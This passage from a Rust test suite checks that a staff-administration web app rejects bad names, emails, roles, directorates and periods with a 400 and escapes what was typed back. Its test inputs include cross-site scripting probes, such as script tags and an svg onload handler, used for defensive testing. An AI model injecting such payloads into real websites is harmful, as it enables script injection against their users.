                || format!("{backend:?} audit.json: {} is missing", short(&user.email)),
            );
        }

        // Refused: names with control characters or too long, bad addresses, unknown
        // directorates and roles. Each a 400 naming the field, changing nothing.
        let someone = people[0].0.id;
        let mut bad_names = refused_texts();
        bad_names.retain(|t| t.chars().count() < 1_000);
        bad_names.extend([
            "x".repeat(201),
            "line\nbreak".into(),
            "tab\there".into(),
            "<b>\r</b>".into(),
        ]);
        let mut cases: Vec<Case> = vec![];
        for name in &bad_names {
            let add = vec![
                ("email", "new.one@bexley.example".to_string()),
                ("name", name.clone()),
                ("role", "owner".into()),
                ("directorate", String::new()),
            ];
            cases.push(case("/staff/people", add, "name", name.clone()));
            let change = vec![
                ("action", "change".to_string()),
                ("name", name.clone()),
                ("role", "owner".into()),
                ("directorate", String::new()),
                ("active", "yes".into()),
            ];
            cases.push(case(
                format!("/staff/people/{someone}"),
                change,
                "name",
                String::new(),
            ));
        }
        for email in refused_emails() {
            let add = vec![
                ("email", email.clone()),
                ("name", "Someone".to_string()),
                ("role", "owner".into()),
                ("directorate", String::new()),
            ];
            cases.push(case("/staff/people", add, "email", email));
        }
        // An address taken, that happens to contain the word "directorate".
        let taken = "directorate.lead@bexley.example";
        let (status, _) = admin_b
            .post(
                "/staff/people",
                &[
                    ("email", taken),
                    ("name", "Lead"),
                    ("role", "owner"),
                    ("directorate", ""),
                ],
            )
            .await;
        assert_eq!(status, StatusCode::OK);
        cases.push(case(
            "/staff/people",
            vec![
                ("email", taken.to_string()),
                ("name", "Again".into()),
                ("role", "owner".into()),
                ("directorate", String::new()),
            ],
            "email",
            taken,
        ));
        for directorate in [
            "\"><script>alert(601)</script>",
            "Place<svg onload=alert(602)>",
        ] {
            for (path, action) in [
                ("/staff/people".to_string(), "add"),
                (format!("/staff/people/{someone}"), "change"),
            ] {
                let fields = vec![
                    ("action", action.to_string()),
                    ("email", "new.two@bexley.example".to_string()),
                    ("name", "Someone".into()),
                    ("role", "director".into()),
                    ("directorate", directorate.to_string()),
                    ("active", "yes".into()),
                ];
                cases.push(case(path, fields, "directorate", String::new()));
            }
        }
        for role in ["\"><script>alert(603)</script>", "superuser", "ADMIN", ""] {
            let fields = vec![
                ("email", "new.three@bexley.example".to_string()),
                ("name", "Someone".into()),
                ("role", role.to_string()),
                ("directorate", String::new()),
            ];
            cases.push(case("/staff/people", fields, "role", String::new()));
        }
        // Periods: nothing but a quarter and a date is taken, and what was typed comes back
        // escaped.
        for text in texts.iter().chain(&refused_texts()) {
            let fields = vec![("period", text.clone()), ("deadline", "2025-10-31".into())];
            cases.push(case("/staff/periods", fields, "period", text.clone()));
            let fields = vec![("period", "2025/26 Q2".into()), ("deadline", text.clone())];
            cases.push(case("/staff/periods", fields, "deadline", text.clone()));
        }
        for Case {
            path,
            fields,
            field,
            typed,
        } in &cases
        {
            let pairs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let before = store.row_counts().await.expect("counts");
            let (status, html) = admin_b.post(path, &pairs).await;
            let place = format!(
                "{backend:?} {path} with {field} {}",
                short(
                    fields
                        .iter()
                        .find(|(k, _)| k == field)
                        .map(|(_, v)| v.as_str())
                        .unwrap_or("")
                )
            );
            found.check(status == StatusCode::BAD_REQUEST, || {
                format!("{place}: got {status}")
            });
            found.check(html.contains(&format!("href=\"#{field}\"")), || {
                format!("{place}: the error does not name the field")
            });
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: something changed")
            });
            for (_, value) in fields {
                found.not_raw(&place, &html, value);
            }
            if !typed.is_empty() {
                found.escaped(&place, &html, typed);
            }
        }

        // The sign-in form shows the address typed back, escaped, and records nothing when the
        // password is missing.
        let mut anyone = Client::new(world.app.clone());
        let (_, _, html) = anyone.get("/staff/sign-in").await;
        let token = hidden(&html, "token").expect("token");
        for text in texts.iter().chain(&refused_texts()).chain(&emails) {
            let before = store.row_counts().await.expect("counts");
            let (status, _, html) = anyone
                .post_raw(
                    "/staff/sign-in",
                    &[("token", &token), ("email", text), ("password", "")],
                )
                .await;
            let place = format!("{backend:?} sign-in as {}", short(text));
            found.check(status == StatusCode::BAD_REQUEST, || {
                format!("{place}: got {status}")
            });
            found.escaped(&place, &html, text.trim());
            found.not_raw(&place, &html, text);
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: something changed")
            });
        }
    }
    found.finish();
}
